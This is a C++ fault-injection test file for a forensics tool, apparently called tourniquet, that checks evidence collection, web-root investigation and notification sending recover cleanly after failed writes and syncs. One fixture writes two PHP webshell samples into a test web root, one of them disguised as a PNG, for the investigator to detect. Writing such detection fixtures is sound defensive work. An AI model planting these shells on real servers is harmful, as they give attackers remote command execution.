// Fault injection under a whole command: collect, the web-root investigation and notify send
// are each run with the Nth write failing, then with the Nth sync failing (of the case file,
// and for collect also of the evidence store), for every N until a run sees no fault. After
// each failed run the case must pass PRAGMA integrity_check, and a rerun without faults must
// complete with exactly the result of a run that never failed (SQLite's crash9.test and
// malloc_common.tcl, applied to tourniquet's commands): the same findings, the same evidence
// items with `verify` clean, each letter delivered at most once and none lost.
#include <gtest/gtest.h>

#include <cstdio>
#include <filesystem>
#include <functional>
#include <map>
#include <memory>
#include <set>
#include <string>

#include "casefile/casefile.h"
#include "evidence/evidence.h"
#include "fault/fault_vfs.h"
#include "notify/notify.h"
#include "notify/test_outbox.h"
#include "notify/test_smtp_sink.h"
#include "support/testing.h"
#include "webroot/webroot.h"

namespace tq {
namespace {

namespace fs = std::filesystem;
using testing::FaultKind;

std::string IntegrityCheck(Case& c) {
  auto st = c.db().Prepare("PRAGMA integrity_check");
  if (!st.ok()) return st.status().ToString();
  auto row = st->Step();
  if (!row.ok() || !*row) return "no result";
  return st->String(0);
}

std::unique_ptr<Case> OpenCase(const std::string& dir) {
  auto c = Case::Open(dir);
  EXPECT_TRUE(c.ok()) << dir << ": " << c.status().message();
  return c.ok() ? std::move(*c) : nullptr;
}

// The driver: for N = 1, 2, ... copy the template case, run `command` on the copy with the
// Nth operation of `kind` failing (and every one after it: a disk that went bad stays bad),
// close the case as a failed command leaves it, then reopen it, check its integrity and call
// `recover` (a rerun without faults, and the comparison). Stops at the first N that no run
// reaches; returns how many runs saw the fault.
class FaultInjection : public ::testing::Test {
 protected:
  void SetUp() override { testing::InstallFaultVfs(); }

  int EveryN(FaultKind kind, const std::function<Status(Case&)>& command,
             const std::function<void(Case&, uint64_t n)>& recover) {
    int failed_runs = 0;
    for (uint64_t n = 1; n < 3000; ++n) {
      std::string dir = tmp_ / (std::string("n") + std::to_string(static_cast<int>(kind)) + "_" +
                                std::to_string(n));
      fs::copy(template_, dir, fs::copy_options::recursive);
      bool fired;
      {
        auto c = OpenCase(dir);
        if (!c) return failed_runs;
        testing::ArmFault(kind, n);
        Status s = command(*c);
        fired = testing::FaultFired();
        testing::DisarmFault();
        if (!fired) {
          EXPECT_TRUE(s.ok()) << n << ": " << s.ToString();
        }
      }
      if (fired) ++failed_runs;  // failed, or succeeded after a retry: both fine here
      {
        auto again = OpenCase(dir);
        if (!again) return failed_runs;
        EXPECT_EQ(IntegrityCheck(*again), "ok") << FaultKindName(kind) << " " << n;
        recover(*again, n);
      }
      fs::remove_all(dir);
      if (HasFailure() || !fired) return failed_runs;
    }
    ADD_FAILURE() << "still faulting after 3000 operations";
    return failed_runs;
  }

  void Report(const char* command, FaultKind kind, int runs) {
    std::printf("%s: %d runs with a failed %s, each recovered\n", command, runs,
                FaultKindName(kind));
  }

  testing::TempDir tmp_;
  std::string template_ = tmp_ / "template";
};

// ---- the web-root investigation ----

class WebrootFaults : public FaultInjection {
 protected:
  void SetUp() override {
    FaultInjection::SetUp();
    // A small web root: a planted webshell, a disguised PHP file, and version files.
    std::string root = tmp_ / "www";
    fs::create_directories(root + "/pub/media/catalog");
    fs::create_directories(root + "/app/etc");
    testing::WriteFile(root + "/index.php", "<?php require __DIR__ . '/app/bootstrap.php';\n");
    testing::WriteFile(root + "/app/etc/di.xml", "<config/>\n");
    testing::WriteFile(root + "/app/etc/env.php", "<?php return ['db' => []];\n");
    testing::WriteFile(root + "/composer.lock",
                       R"({"packages":[{"name":"magento/product-community-edition",)"
                       R"("version":"2.4.6-p5"}]})");
    testing::WriteFile(root + "/pub/media/catalog/x.php",
                       "<?php @eval(base64_decode($_POST['c']));\n");
    testing::WriteFile(root + "/pub/media/catalog/logo.png", "<?php system($_GET['x']); ?>\n");
    CaseInfo info;
    info.name = "fault";
    info.platform = "magento";
    {
      auto c = Case::Create(template_, info);
      ASSERT_TRUE(c.ok()) << c.status().message();
      evidence::CollectOptions o;
      o.label = "webroot";
      o.threads = 1;
      auto sum = evidence::Collect(**c, {root}, o);
      ASSERT_TRUE(sum.ok()) << sum.status().message();
    }
    std::string clean = tmp_ / "clean";
    fs::copy(template_, clean, fs::copy_options::recursive);
    auto c = OpenCase(clean);
    ASSERT_TRUE(c);
    ASSERT_TRUE(Investigate(*c).ok());
    want_ = FindingSet(*c);
    ASSERT_GE(want_.size(), 2u);  // the test means something only if there are findings
  }
  static Status Investigate(Case& c) {
    webroot::WebrootOptions o;
    o.threads = 1;
    return webroot::InvestigateWebroot(c, o).status();
  }
  // Findings as a set of (kind, dedupe key, detail): what a rerun must reproduce.
  static std::set<std::string> FindingSet(Case& c) {
    std::set<std::string> out;
    auto all = ListFindings(c.db());
    EXPECT_TRUE(all.ok());
    if (!all.ok()) return out;
    for (const Finding& f : *all) out.insert(f.kind + "|" + f.dedupe_key + "|" + f.detail_json);
    return out;
  }
  int Run(FaultKind kind) {
    return EveryN(kind, Investigate, [&](Case& c, uint64_t n) {
      EXPECT_TRUE(Investigate(c).ok()) << "rerun after fault " << n;
      EXPECT_EQ(FindingSet(c), want_) << "rerun after fault " << n;
    });
  }
  std::set<std::string> want_;
};

TEST_F(WebrootFaults, EveryFailedWriteLeavesACaseThatRerunsToTheSameFindings) {
  int runs = Run(FaultKind::kWrite);
  EXPECT_GT(runs, 3);
  Report("webroot investigate", FaultKind::kWrite, runs);
}

TEST_F(WebrootFaults, EveryFailedSyncLeavesACaseThatRerunsToTheSameFindings) {
  int runs = Run(FaultKind::kSync);
  EXPECT_GT(runs, 0);
  Report("webroot investigate", FaultKind::kSync, runs);
}

// ---- collect ----

class CollectFaults : public FaultInjection {
 protected:
  void SetUp() override {
    FaultInjection::SetUp();
    // Logs and a web root with a duplicate file (one object, two items), a sparse-looking
    // run of zeros (a hole in the store) and a nested directory.
    logs_ = tmp_ / "logs";
    www_ = tmp_ / "www";
    fs::create_directories(logs_);
    fs::create_directories(www_ + "/pub/media");
    testing::WriteFile(logs_ + "/access.log",
                       "203.0.113.9 - - [02/Mar/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 5\n");
    testing::WriteFile(logs_ + "/error.log", "[error] something\n");
    testing::WriteFile(www_ + "/index.php", "<?php echo 1;\n");
    testing::WriteFile(www_ + "/pub/media/copy.php", "<?php echo 1;\n");
    testing::WriteFile(www_ + "/pub/media/zeros.bin", std::string(3 * 4096, '\0') + "end");
    CaseInfo info;
    info.name = "collect fault";
    auto c = Case::Create(template_, info);
    ASSERT_TRUE(c.ok()) << c.status().message();
    c->reset();
    std::string clean = tmp_ / "clean";
    fs::copy(template_, clean, fs::copy_options::recursive);
    auto cc = OpenCase(clean);
    ASSERT_TRUE(cc);
    ASSERT_TRUE(Collect(*cc).ok());
    want_ = Items(*cc);
    ASSERT_GE(want_.size(), 5u);  // files and their folders
  }
  Status Collect(Case& c) {
    evidence::CollectOptions o;
    o.threads = 1;
    o.actor = "fault test";
    o.label = "logs";
    TQ_RETURN_IF_ERROR(evidence::Collect(c, {logs_}, o).status());
    o.label = "webroot";
    return evidence::Collect(c, {www_}, o).status();
  }
  // Items as (label, path, sha256, size).
  static std::set<std::string> Items(Case& c) {
    std::set<std::string> out;
    auto st = c.db().Prepare("SELECT label, original_path, sha256, size FROM evidence_items");
    EXPECT_TRUE(st.ok());
    if (!st.ok()) return out;
    while (*st->Step())
      out.insert(st->String(0) + "|" + st->String(1) + "|" + st->String(2) + "|" +
                 std::to_string(st->Int(3)));
    return out;
  }
  int Run(FaultKind kind) {
    return EveryN(
        kind, [&](Case& c) { return Collect(c); },
        [&](Case& c, uint64_t n) {
          Status s = Collect(c);
          EXPECT_TRUE(s.ok()) << "rerun after fault " << n << ": " << s.ToString();
          EXPECT_EQ(Items(c), want_) << "rerun after fault " << n;
          evidence::VerifyOptions vo;
          vo.threads = 1;
          auto v = evidence::Verify(c, vo);
          ASSERT_TRUE(v.ok()) << v.status().ToString();
          for (const auto& p : v->problems)
            ADD_FAILURE() << "verify after fault " << n << " and rerun: " << p.message;
        });
  }
  std::string logs_, www_;
  std::set<std::string> want_;
};

TEST_F(CollectFaults, EveryFailedCaseFileWriteReruns) {
  int runs = Run(FaultKind::kWrite);
  EXPECT_GT(runs, 3);
  Report("collect", FaultKind::kWrite, runs);
}

TEST_F(CollectFaults, EveryFailedCaseFileSyncReruns) {
  int runs = Run(FaultKind::kSync);
  EXPECT_GT(runs, 0);
  Report("collect", FaultKind::kSync, runs);
}

TEST_F(CollectFaults, EveryFailedEvidenceWriteReruns) {
  int runs = Run(FaultKind::kFileWrite);
  EXPECT_GT(runs, 3);
  Report("collect", FaultKind::kFileWrite, runs);
}

TEST_F(CollectFaults, EveryFailedEvidenceSyncReruns) {
  int runs = Run(FaultKind::kFileSync);
  EXPECT_GT(runs, 1);
  Report("collect", FaultKind::kFileSync, runs);
}

// ---- notify send ----

class SendFaults : public FaultInjection {
 protected:
  void SetUp() override {
    FaultInjection::SetUp();
    for (int i = 0; i < 4; ++i) rcpts_.push_back("p" + std::to_string(i) + "@example.com");
    ASSERT_TRUE(notify::OutboxCase(template_, rcpts_));
  }
  Status Send(Case& c) {
    notify::SendOptions o = notify::ConfirmedSend(sink_->url());
    o.retries = 0;
    o.fsync_each = true;  // the 'unconfirmed' commit syncs: its failure is among the Ns
    return notify::SendOutbox(c, o).status();
  }
  int Run(FaultKind kind) {
    return EveryN(
        kind,
        [&](Case& c) {
          sink_ = std::make_unique<notify::TestSmtpSink>();
          return Send(c);
        },
        [&](Case& c, uint64_t n) {
          // The rerun sends what the failed run did not; nothing is sent twice: a letter
          // whose end-of-data may have left is 'unknown' (reported, not resent).
          Status s = Send(c);
          EXPECT_TRUE(s.ok()) << "rerun after fault " << n << ": " << s.ToString();
          std::map<std::string, int> delivered;
          for (const auto& m : sink_->messages()) ++delivered[m.rcpt];
          for (const auto& [rcpt, state] : notify::OutboxStates(c)) {
            EXPECT_LE(delivered[rcpt], 1) << rcpt << " after fault " << n;
            if (state == "sent") {
              EXPECT_EQ(delivered[rcpt], 1) << rcpt << " after fault " << n;
            } else {
              EXPECT_EQ(state, "unknown") << rcpt << " after fault " << n;
            }
          }
          EXPECT_EQ(*c.db().QueryInt("SELECT count(*) FROM notify_send_claim"), 0) << n;
        });
  }
  std::vector<std::string> rcpts_;
  std::unique_ptr<notify::TestSmtpSink> sink_;
};

TEST_F(SendFaults, EveryFailedWriteDeliversEachLetterAtMostOnceAndLosesNone) {
  int runs = Run(FaultKind::kWrite);
  EXPECT_GT(runs, 3);
  Report("notify send", FaultKind::kWrite, runs);
}

TEST_F(SendFaults, EveryFailedSyncDeliversEachLetterAtMostOnceAndLosesNone) {
  int runs = Run(FaultKind::kSync);
  EXPECT_GT(runs, 0);
  Report("notify send", FaultKind::kSync, runs);
}

}  // namespace
}  // namespace tq
